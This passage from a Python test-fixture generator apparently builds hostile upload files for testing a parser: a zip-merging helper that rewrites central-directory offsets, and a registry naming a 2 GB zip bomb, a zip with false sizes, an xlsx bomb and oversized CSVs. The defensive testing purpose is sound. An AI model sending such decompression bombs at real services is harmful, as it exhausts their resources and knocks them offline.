    """Concatenate the members of two zips into one archive (central directories merged)."""
    out = bytearray()
    directory = bytearray()
    count = 0
    for data in (first, second):
        end = data.rfind(b"PK\x05\x06")
        entries, size, offset = struct.unpack_from("<HII", data, end + 10)
        shift = len(out)
        out += data[:offset]
        position = offset
        for _ in range(entries):
            name_length, extra_length, comment_length = struct.unpack_from(
                "<HHH", data, position + 28
            )
            length = 46 + name_length + extra_length + comment_length
            entry = bytearray(data[position : position + length])
            (local,) = struct.unpack_from("<I", entry, 42)
            struct.pack_into("<I", entry, 42, local + shift)
            directory += entry
            position += length
            count += 1
    end = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, count, count, len(directory), len(out), 0)
    return bytes(out + directory + end)


BIG_CASES: dict[str, Callable[[Path], None]] = {
    "register_10mb_field.csv": _ten_mb_field,
    "register_million_columns.csv": _million_columns,
    "register_over_size_limit.csv": _over_size_limit,
    "youtube_zip_bomb_2gb.zip": _zip_bomb,
    "youtube_zip_lying_sizes.zip": _lying_zip,
    "register_xlsx_bomb.xlsx": _xlsx_bomb,
}


def write_big_case(name: str, folder: Path) -> Path:
    """Write the big case ``name`` into ``folder``; returns its path."""
    path = folder / name
    BIG_CASES[name](path)
    return path


if __name__ == "__main__":
    for written in write_small_cases():
        print(written.relative_to(FIXTURES.parent.parent.parent))
